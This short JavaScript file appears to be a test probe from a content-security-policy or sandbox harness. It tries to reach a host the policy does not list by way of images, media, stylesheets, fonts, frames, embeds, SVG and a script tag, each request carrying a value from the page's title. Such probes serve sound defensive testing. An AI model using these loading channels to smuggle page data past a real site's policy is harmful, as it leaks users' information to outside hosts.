// Tries: send what it has to a host that the policy does not list, by what markup and style sheets load.
(async () => {
  const to = (way) => `${CDN}/reached/load-elsewhere/${way}?${document.title.length}`;
  const box = document.createElement("div");
  box.innerHTML = `<img src="${to("img")}"><picture><source srcset="${to("srcset")}"><img></picture><video src="${to("video")}" poster="${to("poster")}" preload></video>
<audio src="${to("audio")}" preload></audio><link rel="stylesheet" href="${to("stylesheet")}"><link rel="icon" href="${to("icon")}">
<style>@import "${to("css-import")}"; @font-face { font-family: drop; src: url("${to("font")}") } b { font-family: drop; background: url("${to("css")}") }</style><b>b</b>
<iframe src="${to("iframe")}"></iframe><object data="${to("object")}"></object><embed src="${to("embed")}"><svg><image href="${to("svg")}"/></svg>
<input type="image" src="${to("input")}"><track src="${to("track")}">`;
  document.documentElement.append(box);
  const script = document.createElement("script");
  const ended = new Promise((done) => (script.onload = script.onerror = done));
  script.src = to("script");
  box.append(script);
  await ended;
  setTimeout(() => over("load-elsewhere"), 300);
})();
